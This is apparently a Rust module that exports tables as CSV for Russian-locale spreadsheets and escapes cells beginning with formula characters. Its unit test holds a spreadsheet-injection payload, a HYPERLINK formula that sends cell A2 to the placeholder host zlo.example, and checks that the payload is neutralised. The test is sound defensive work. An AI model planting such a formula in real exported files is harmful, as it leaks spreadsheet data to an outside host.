//! CSV as spreadsheets of our countries open it: UTF-8 with a mark, `;`, decimal comma, CRLF.

use std::io::Write;

use csv::{Terminator, WriterBuilder};

use super::{OutCell, Sheet, WriteError};
use crate::csv::guard::guarded;
use crate::encoding::UTF8_MARK;

/// Writes a table.
///
/// # Errors
/// [`WriteError`] when the file behind `target` fails.
pub fn write_csv<R>(mut target: impl Write, sheet: Sheet<R>) -> Result<(), WriteError>
where
    R: IntoIterator<Item = Vec<OutCell>>,
{
    target.write_all(UTF8_MARK)?;
    let mut writer =
        WriterBuilder::new().delimiter(b';').terminator(Terminator::CRLF).flexible(true).from_writer(target);
    writer.write_record(sheet.columns.iter().map(|header| guarded(header)))?;
    for row in sheet.rows {
        writer.write_record(row.iter().map(text))?;
    }
    writer.flush()?;
    Ok(())
}

fn text(cell: &OutCell) -> String {
    match cell {
        OutCell::Empty => String::new(),
        OutCell::Text(text) => guarded(text),
        OutCell::Money(money) => money.to_decimal_string(','),
        OutCell::Quantity(quantity) => quantity.to_decimal_string(','),
        OutCell::Integer(number) => number.to_string(),
        OutCell::Date(date) => date.format("%d.%m.%Y").to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use domain::{Currency, Date, Money, Quantity};

    #[test]
    fn formulas_become_text_and_numbers_stay_numbers() {
        let row = vec![
            OutCell::Text("=HYPERLINK(\"http://zlo.example/?\"&A2;\"Иванов\")".into()),
            OutCell::Text("+79745189319".into()),
            OutCell::Text("@SUM(1)".into()),
            OutCell::Text("-5".into()),
            OutCell::Text("\tx".into()),
            OutCell::Money(Money::new(-27262, Currency::Rub)),
            OutCell::Quantity(Quantity::parse("7.2").unwrap()),
            OutCell::Date(Date::from_ymd_opt(2022, 5, 1).unwrap()),
            OutCell::Text("a;b".into()),
        ];
        let sheet = Sheet { title: String::new(), columns: vec!["Имя".into()], rows: [row] };
        let mut bytes = Vec::new();
        write_csv(&mut bytes, sheet).unwrap();
        let text = String::from_utf8(bytes).unwrap();
        assert_eq!(
            text,
            "\u{feff}Имя\r\n\"'=HYPERLINK(\"\"http://zlo.example/?\"\"&A2;\"\"Иванов\"\")\";'+79745189319;'@SUM(1);'-5;'\tx;-272,62;7,2;01.05.2022;\"a;b\"\r\n"
        );
    }
}
